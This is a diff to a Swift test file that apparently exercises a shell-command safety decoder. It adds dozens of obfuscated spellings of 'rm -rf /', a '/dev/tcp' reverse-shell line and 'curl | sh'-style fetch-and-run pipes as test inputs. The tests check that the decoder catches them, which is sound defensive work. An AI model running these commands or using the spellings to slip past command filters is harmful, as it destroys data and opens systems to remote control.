@@ -135,6 +135,47 @@ func shellRows(_ table: String) -> [ShellRow] {
       "python3 -c 'import os; os.system(\"rm -rf /\")'",
       "vim -c ':!rm -rf /'", "psql -c '\\! rm -rf /'", "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
       "tar cf x --checkpoint-action=exec='rm -rf /' y",
+      // Aliases, arrays, positional parameters as a whole
+      "alias x='rm -rf /'; x", "alias x='rm -rf /'", "alias x='rm -rf'\nx /", "alias a=b c='rm -rf /'",
+      "x=(rm -rf /); \"${x[@]}\"", "x=(rm -rf /); ${x[*]}", "a=(-rf); a+=(/); rm \"${a[@]}\"", "c=rm; c+=' -rf /'; $c",
+      "x=(/); rm -rf $x", "x=(/tmp /); rm -rf \"${x[@]}\"", "a=(/); rm -rf ${a[0]}",
+      "declare -a x=(/); rm -rf \"${x[@]}\"",
+      "set -- rm -rf /; x=\"$*\"; $x", "x=/; rm -rf \"${x%/}/\"", "f() { local d=$1; rm -rf \"$d\"; }; f /",
+      // Values that only may be
+      "rm -rf $(echo /)", "rm -rf \"`echo /`\"", "x=$(echo /); rm -rf $x",
+      "for d in 1 2 3 4 5 6 7 8 9 /; do rm -rf $d; done",
+      "while read d; do rm -rf \"$d\"; done <<< /", "read d <<< /; rm -rf $d",
+      "echo / | while read d; do rm -rf $d; done",
+      "echo / | xargs -I{} rm -rf {}", "printf 'a\\n/\\n' | xargs -I% rm -rf %", "printf '/\\0' | xargs -0 rm -rf",
+      "echo a,/ | tr -d x | cat; printf 'a,/' | xargs -d, rm -rf",
+      "set -- / /tmp; for d; do rm -rf $d; done", "f() { for d in \"$@\"; do rm -rf \"$d\"; done; }; f /tmp /",
+      "f() { shift; rm -rf \"$1\"; }; f a /", "D=${1:-/}; rm -rf \"$D\"", ": ${D:=/}; rm -rf \"$D\"",
+      "mapfile -t a < <(echo /); rm -rf \"${a[@]}\"",
+      // Line ends of DOS
+      "rm -rf /\r", "rm -rf /\r\n", "cd /\r\nrm -rf .\r\n",
+      // Programs that run others
+      "parallel 'rm -rf {}' ::: /", "parallel rm -rf {} ::: a /", "echo / | parallel rm -rf",
+      "echo 'rm -rf /' | parallel",
+      "ssh h -- rm -rf /", "ssh h -p 22 rm -rf /", "ssh h -t 'rm -rf /'", "mosh h -- rm -rf /",
+      "docker exec -w / c rm -rf .", "docker compose -f x.yml exec -T web rm -rf /",
+      "docker-compose -p x run web rm -rf /",
+      "crictl exec -it c rm -rf /", "buildah run c rm -rf /", "lxc exec c -- rm -rf /", "incus exec c rm -rf /",
+      "lxc-attach -n c -- rm -rf /", "machinectl shell c /bin/rm -rf /", "systemd-nspawn -D /c rm -rf /",
+      "oc rsh p rm -rf /", "k exec p -- rm -rf /", "vagrant ssh -c 'rm -rf /'", "busybox.static rm -rf /",
+      "npx -c 'rm -rf /'", "npm exec -c 'rm -rf /'", "ls | entr rm -rf /", "proot -r x rm -rf /", "env -S rm -rf /",
+      "env -S '-i rm' -rf /", "socat - SYSTEM:'rm -rf /',stderr", "socat exec:'rm -rf /' -",
+      "screen -X stuff 'rm -rf /\\n'",
+      "make -f - <<< 'all:; rm -rf /'", "make -f - <<E\nall:\n\t@rm -rf /\nE", "make --eval='x:; rm -rf /' x",
+      "git rebase -x 'rm -rf /' main", "git filter-branch --tree-filter 'rm -rf /'", "git difftool -x 'rm -rf /'",
+      "git config --global alias.x '!rm -rf /'", "PAGER='rm -rf /' man x", "export EDITOR='rm -rf /'",
+      "env GIT_SSH_COMMAND='rm -rf /' git pull", "psql -o '|rm -rf /'", "vim -c 'silent !rm -rf /'",
+      "vim -c 'call system(\"rm -rf /\")'", "ed x <<< '!rm -rf /'",
+      // Other languages
+      "awk 'BEGIN{\"rm -rf /\" | getline}'", "awk '{print | \"rm -rf /\"}'", "php -r 'system(\"rm -rf /\");'",
+      "perl -e '`rm -rf /`'", "perl -e 'qx(rm -rf /)'", "perl -e 'system q{rm -rf /}'", "ruby -e '%x(rm -rf /)'",
+      "node -p 'require(\"child_process\").execSync(`rm -rf /`)'", "node -e 'spawn(\"rm\", [\"-rf\", \"/\"])'",
+      "python3 -c \"import os; os.system('''rm -rf /''')\"", "python3 -c 'import os; os.system(rf\"rm -rf /\")'",
+      "python3 -c 'os.execvp(\"rm\", [\"rm\", \"-rf\", \"/\"])'", "lua -e 'os.execute(\"rm -rf /\")'",
     ]
     for spelling in spellings {
       let removes = decodeShell(spelling).contains { operation in
@@ -152,7 +193,7 @@ func shellRows(_ table: String) -> [ShellRow] {
       "cat <<'E'\nrm -rf /\n$(rm -rf /)\nE",
       "git commit -m 'rm -rf /'", "printf 'rm -rf /\\n' > x", "x='rm -rf /'", "echo \"a; rm -rf /\"",
       "echo a\\; rm -rf /", "command -v rm",
-      "alias x='rm -rf /'", "echo '$(rm -rf /)'", "echo \\$(:)rm", "man rm", "which rm", "sed 's/rm -rf \\///' x",
+      "echo '$(rm -rf /)'", "echo \\$(:)rm", "man rm", "which rm", "sed 's/rm -rf \\///' x",
       "[[ rm -rf == / ]]",
     ]
     for mention in mentions {
@@ -174,7 +215,8 @@ func shellRows(_ table: String) -> [ShellRow] {
       "x=ls; while a; do $x; x=rm; done", "x=ls; eval \"$y\"; $x",
       "x=ls; . ./y; $x", "unset x; $y", "!!", "!rm", "sudo !!", "declare -n y=x; x=rm; $y", "find . -exec {} \\;",
       "ls | xargs sudo", "@(rm|x) /",
-      "$((1)) x", "x=(rm); $x", "x+=m; $x", "X=rm; sh -c '$X /'", "trap 'x=rm' DEBUG; x=ls; $x",
+      "$((1)) x", "x=([1]=rm); $x", "x+=m; $x", "x=(rm $y); ${x[0]} /", "X=rm; sh -c '$X /'",
+      "trap 'x=rm' DEBUG; x=ls; $x",
     ]
     for line in programs { #expect(decodeShell(line).contains { $0.reason == .unknownProgram }, "\(line)") }
     let codes = [
@@ -191,13 +233,17 @@ func shellRows(_ table: String) -> [ShellRow] {
       "cat x | ssh h", "cat x | ssh h sh", "curl x | docker exec -i c sh", "curl x | sh /dev/stdin", "curl x | bash -",
       "cat x | at now", "cat x | crontab -",
       "su -c \"$x\"", "curl x | su", "curl x | sudo -s", "trap \"$x\" EXIT", "curl x | env sh", "curl x | busybox sh",
-      "sh < /dev/tcp/h/1", "{ echo a; curl x; } | sh",
+      "sh < /dev/tcp/h/1", "bash -i >& /dev/tcp/h/1 0>&1", "alias x=\"$y\"", "curl x | make -f -", "curl x | awk -f -",
+      "curl x | expect", "curl x | ed", "curl x | parallel", "printf 'ls\\0' | xargs -0 -I{} sh -c {}",
+      "{ echo a; curl x; } | sh",
     ]
     for line in codes {
       #expect(decodeShell(line).contains { $0.reason == .unknownCode && $0.protocol == .shell }, "\(line)")
     }
     for line in [
-      "cat x | psql", "psql -c \"$x\"", "psql <<E\n$x\nE", "psql -c '\\i x'", "echo 'select 1 \\gexec' | psql",
+      "cat x | psql", "cat x | psql -f -", "psql -f <(cat x)", "psql -c 'select 1' -f /dev/stdin < <(cat x)",
+      "cat x | psql -f - -c 'select 1'", "psql -c \"$x\"", "psql <<E\n$x\nE", "psql -c '\\i x'",
+      "echo 'select 1 \\gexec' | psql",
     ] {
       #expect(decodeShell(line).contains { $0.reason == .unknownCode && $0.protocol == .postgres }, "\(line)")
     }
